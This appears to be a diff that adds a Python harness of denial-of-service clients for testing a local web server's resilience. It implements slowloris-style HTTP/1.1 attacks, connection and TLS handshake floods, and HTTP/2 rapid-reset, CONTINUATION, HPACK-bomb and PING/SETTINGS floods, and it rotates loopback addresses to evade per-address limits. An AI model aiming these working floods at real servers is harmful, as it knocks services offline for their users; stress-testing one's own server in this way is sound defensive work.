@@ -1,0 +1,260 @@
+"""Clients that mean harm, one kind to a function. Run by http_attacks.py, each in a process of its own:
+
+    python scripts/attackers.py NAME --port P --host H --big HOST --token T --seconds N [--connections N]
+
+They come from many addresses of the loopback (127.1.x.y), so that no limit for one address ends them early. Each keeps at it until
+its time is over, coming back whenever it was shown the door. The last line printed is JSON: how many connections, how many refused.
+"""
+
+import argparse
+import asyncio
+import collections
+import itertools
+import json
+import resource
+import socket
+import ssl
+import struct
+import time
+
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+HEADERS, RESET, SETTINGS, PING, CONTINUATION = 1, 3, 4, 6, 9
+END_STREAM, END_HEADERS = 1, 4
+
+
+def frame(kind, flags, stream, payload=b""):
+    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload
+
+
+def text(value):
+    """A string of HPACK as it is; longer than 126 bytes takes a second byte or more (RFC 7541, section 5.1)."""
+    value = value.encode()
+    if len(value) < 127:
+        return bytes([len(value)]) + value
+    rest, out = len(value) - 127, [127]
+    while rest >= 128:
+        out.append(rest % 128 + 128)
+        rest //= 128
+    return bytes([*out, rest]) + value
+
+
+def literal(name, value, indexed=False):
+    return (b"\x40" if indexed else b"\x00") + text(name) + text(value)
+
+
+class Attack:
+    def __init__(self, options):
+        self.options = options
+        self.end = time.monotonic() + options.seconds
+        self.counts = collections.Counter()
+        self.addresses = (f"127.1.{n // 250 % 250}.{n % 250 + 1}" for n in itertools.count())
+        self.context = ssl.create_default_context()
+        self.context.check_hostname = False
+        self.context.verify_mode = ssl.CERT_NONE
+        self.h2 = ssl.create_default_context()
+        self.h2.check_hostname = False
+        self.h2.verify_mode = ssl.CERT_NONE
+        self.h2.set_alpn_protocols(["h2"])
+
+    @property
+    def goes_on(self):
+        return time.monotonic() < self.end
+
+    async def connect(self, context, **options):
+        place = socket.socket()
+        place.setblocking(False)
+        if "buffer" in options:
+            place.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, options["buffer"])
+        place.bind((next(self.addresses), 0))
+        await asyncio.get_running_loop().sock_connect(place, ("127.0.0.1", self.options.port))
+        self.counts["connections"] += 1
+        if context is None:
+            return await asyncio.open_connection(sock=place)
+        return await asyncio.open_connection(
+            sock=place, ssl=context, server_hostname="localhost", ssl_handshake_timeout=60, limit=4096)
+
+    async def many(self, one, connections):
+        """So many at once, begun little by little; who is thrown out comes again."""
+        async def again(number):
+            await asyncio.sleep(number / connections * min(self.options.seconds / 2, connections / 500))
+            while self.goes_on:
+                try:
+                    await asyncio.wait_for(one(), max(0.1, self.end - time.monotonic()))
+                except (OSError, EOFError, ssl.SSLError, asyncio.IncompleteReadError):
+                    self.counts["refused"] += 1
+                    await asyncio.sleep(0.05)
+                except asyncio.TimeoutError:
+                    return
+        await asyncio.gather(*(again(number) for number in range(connections)))
+
+    # HTTP/1.1
+
+    async def trickle(self, beginning, drop, every):
+        reader, writer = await self.connect(self.context)
+        try:
+            writer.write(beginning)
+            while self.goes_on:
+                writer.write(drop)
+                await writer.drain()
+                try:
+                    if not await asyncio.wait_for(reader.read(4096), every):
+                        raise EOFError
+                except asyncio.TimeoutError:
+                    pass
+        finally:
+            writer.close()
+
+    async def slow_headers(self):
+        head = f"GET / HTTP/1.1\r\nHost: {self.options.host}\r\nX-A: ".encode()
+        await self.many(lambda: self.trickle(head, b"a", 1), 2000)
+
+    async def slow_bodies(self):
+        head = f"POST /login HTTP/1.1\r\nHost: {self.options.host}\r\nContent-Length: 100000\r\n"
+        head += "Content-Type: application/x-www-form-urlencoded\r\n\r\n"
+        await self.many(lambda: self.trickle(head.encode(), b"a", 1), 2000)
+
+    async def slow_readers(self):
+        """Whoever asks for a lot has to be somebody: a member of the course."""
+        request = f"GET /big HTTP/1.1\r\nHost: {self.options.big}\r\nAuthorization: Bearer {self.options.token}\r\n\r\n".encode()
+
+        async def one():
+            reader, writer = await self.connect(self.context, buffer=4096)
+            try:
+                writer.transport.pause_reading()
+                writer.write(request)
+                await asyncio.sleep(max(0, self.end - time.monotonic()))
+            finally:
+                writer.transport.abort()
+        await self.many(one, self.options.connections or 10_000)
+
+    async def header_bomb(self):
+        lines = "".join(f"X-{n}: {'a' * 100}\r\n" for n in range(5000)).encode()
+
+        async def one():
+            reader, writer = await self.connect(self.context)
+            try:
+                writer.write(f"GET / HTTP/1.1\r\nHost: {self.options.host}\r\n".encode() + lines + b"\r\n")
+                await reader.read(1)
+            finally:
+                writer.transport.abort()
+        await self.many(one, 8)
+
+    # Connections
+
+    async def connection_flood(self):
+        async def one():
+            _, writer = await self.connect(None)
+            writer.transport.abort()
+        await self.many(one, 8)
+
+    async def slow_handshakes(self):
+        hello = bytes.fromhex("1603010200010001fc0303") + bytes(40)
+
+        async def one():
+            reader, writer = await self.connect(None)
+            try:
+                writer.write(hello)
+                if not await reader.read(1):
+                    raise EOFError
+            finally:
+                writer.transport.abort()
+        await self.many(one, 4000)
+
+    async def tls_handshakes(self):
+        """Whole handshakes, and nothing else."""
+        async def one():
+            _, writer = await self.connect(self.context)
+            writer.transport.abort()
+        await self.many(one, 4)
+
+    # HTTP/2
+
+    def block(self, path=None):
+        return b"\x82\x87" + literal(":path", path or "/") + literal(":authority", self.options.host)
+
+    async def with_h2(self, attack, connections, settings=b""):
+        async def one():
+            reader, writer = await self.connect(self.h2)
+            try:
+                writer.write(PREFACE + frame(SETTINGS, 0, 0, settings))
+                await attack(reader, writer)
+                while await reader.read(65536):
+                    pass
+                raise EOFError
+            finally:
+                writer.transport.abort()
+        await self.many(one, connections)
+
+    async def flood(self, writer, pieces):
+        for piece in pieces:
+            if not self.goes_on:
+                return
+            writer.write(piece)
+            await writer.drain()
+
+    async def rapid_reset(self):
+        block = self.block()
+
+        async def attack(_, writer):
+            streams = range(1, 1 << 20, 2)
+            await self.flood(writer, (
+                frame(HEADERS, END_STREAM | END_HEADERS, n, block) + frame(RESET, 0, n, struct.pack(">I", 8))
+                for n in streams))
+        await self.with_h2(attack, 8)
+
+    async def continuation_flood(self):
+        async def attack(_, writer):
+            writer.write(frame(HEADERS, END_STREAM, 1, self.block()))
+            await self.flood(writer, (
+                frame(CONTINUATION, 0, 1, literal(f"x-{n}", "a" * 8000)) for n in range(1 << 20)))
+        await self.with_h2(attack, 8)
+
+    async def hpack_bomb(self):
+        """One large field is remembered, and then meant again and again by single bytes."""
+        async def attack(_, writer):
+            writer.write(frame(HEADERS, END_STREAM | END_HEADERS, 1, self.block() + literal("x", "a" * 3900, indexed=True)))
+            await self.flood(writer, (
+                frame(HEADERS, END_STREAM | END_HEADERS, n, self.block() + b"\xbe" * 16000) for n in range(3, 1 << 16, 2)))
+        await self.with_h2(attack, 8)
+
+    async def window_zero(self):
+        async def attack(_, writer):
+            block = self.block("/assets/bedel.css")
+            writer.write(b"".join(frame(HEADERS, END_STREAM | END_HEADERS, n, block) for n in range(1, 199, 2)))
+        await self.with_h2(attack, 200, settings=struct.pack(">HI", 4, 0))
+
+    async def ping_flood(self):
+        async def attack(_, writer):
+            await self.flood(writer, (frame(PING, 0, 0, bytes(8)) * 100 for _ in range(1 << 16)))
+        await self.with_h2(attack, 8)
+
+    async def settings_flood(self):
+        async def attack(_, writer):
+            await self.flood(writer, (frame(SETTINGS, 0, 0) * 100 for _ in range(1 << 16)))
+        await self.with_h2(attack, 8)
+
+
+#: In the order of the report.
+NAMES = ["slow_headers", "slow_bodies", "slow_readers", "header_bomb", "connection_flood", "slow_handshakes",
+         "tls_handshakes", "rapid_reset", "continuation_flood", "hpack_bomb", "window_zero", "ping_flood", "settings_flood"]
+
+
+def main():
+    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
+    parser.add_argument("name", choices=NAMES)
+    parser.add_argument("--port", type=int, required=True)
+    parser.add_argument("--host", required=True)
+    parser.add_argument("--big", required=True)
+    parser.add_argument("--token", required=True)
+    parser.add_argument("--seconds", type=float, required=True)
+    parser.add_argument("--connections", type=int)
+    options = parser.parse_args()
+    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
+    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
+    attack = Attack(options)
+    asyncio.run(getattr(attack, options.name)())
+    print(json.dumps(attack.counts))
+
+
+if __name__ == "__main__":
+    main()
